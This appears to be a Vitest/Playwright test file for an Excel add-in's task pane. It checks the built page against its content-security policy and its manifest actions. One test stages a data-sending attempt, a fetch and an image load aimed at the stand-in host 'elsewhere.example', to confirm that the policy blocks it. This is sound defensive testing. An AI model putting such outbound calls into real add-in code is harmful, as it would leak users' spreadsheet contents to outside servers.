import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COMMANDS } from '../../core/index.ts';
import { SHOW_PANE } from '../../manifests/source.ts';
import { bundleExcel } from '../../tools/bundle/bundle-excel.ts';
import { launchChromium } from '../../tools/programs/launch-chromium.ts';
import { type ExcelPage, filesOf, openExcelPage } from '../hosts/excel/page/open-excel-page.ts';
import { hasChromium } from '../workbench/chromium.ts';

describe.skipIf(!hasChromium())('the built page under its content-security policy', () => {
  const folder = mkdtempSync(join(tmpdir(), 'steersheet-excel-'));
  let browser: Browser;
  let opened: ExcelPage;
  beforeAll(async () => {
    await bundleExcel(folder, 'https://addin.test/');
    browser = await launchChromium();
    opened = await openExcelPage(watched(browser), {
      path: 'taskpane.html',
      files: filesOf(folder),
      workbook: { sheets: [{ name: 'Our plan' }] },
      width: 320,
    });
    await opened.page.waitForSelector('#pane *');
  });
  afterAll(async () => {
    await opened?.close();
    await browser?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('breaks no rule of the policy, and asks nobody but Microsoft for Office.js', async () => {
    expect(await breaches(opened)).toEqual([]);
    expect(opened.leaks).toEqual([]);
    expect(opened.errors).toEqual([]);
  });

  it('knows every action that the manifests name', async () => {
    const known = await opened.page.evaluate(() => {
      const { actions } = Office as unknown as {
        actions: { _association: { mappings: Record<string, unknown> } };
      };
      return Object.keys(actions._association.mappings);
    });
    for (const id of [SHOW_PANE, ...COMMANDS.map((command) => command.id)]) {
      expect(known).toContain(id.toUpperCase());
    }
  });

  it('has nothing in its window by the name of an action, where Office.js looks first', async () => {
    const names = [SHOW_PANE, ...COMMANDS.map((command) => command.id)];
    const hidden = await opened.page.evaluate(
      (asked) => asked.filter((name) => Boolean(Reflect.get(window, name))),
      names,
    );
    expect(hidden).toEqual([]);
  });

  it('could not send anything, even if it tried', async () => {
    const { page } = opened;
    const sent = await page.evaluate(() =>
      fetch('https://elsewhere.example/?cells').then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(sent).toBe('stopped');
    const image = 'https://elsewhere.example/cells.png';
    await page.evaluate((source) => {
      new Image().src = source;
    }, image);
    await expect.poll(() => breaches(opened)).toEqual(['connect-src', 'img-src']);
    expect(opened.leaks).toEqual([]);
  });
});

/** The directives that were broken so far, in that order. */
function breaches({ page }: ExcelPage): Promise<readonly string[]> {
  return page.evaluate(() => (window as unknown as { breaches: string[] }).breaches);
}

/** The same browser, whose pages note what their policy stops from the first moment on. */
function watched(browser: Browser): Browser {
  const newContext: Browser['newContext'] = async (options) => {
    const context = await browser.newContext(options);
    await context.addInitScript(() => {
      const noted: string[] = [];
      Object.assign(window, { breaches: noted });
      document.addEventListener('securitypolicyviolation', (event) => {
        noted.push(event.effectiveDirective);
      });
    });
    return context;
  };
  return new Proxy(browser, {
    get: (target, key) => (key === 'newContext' ? newContext : Reflect.get(target, key)),
  });
}
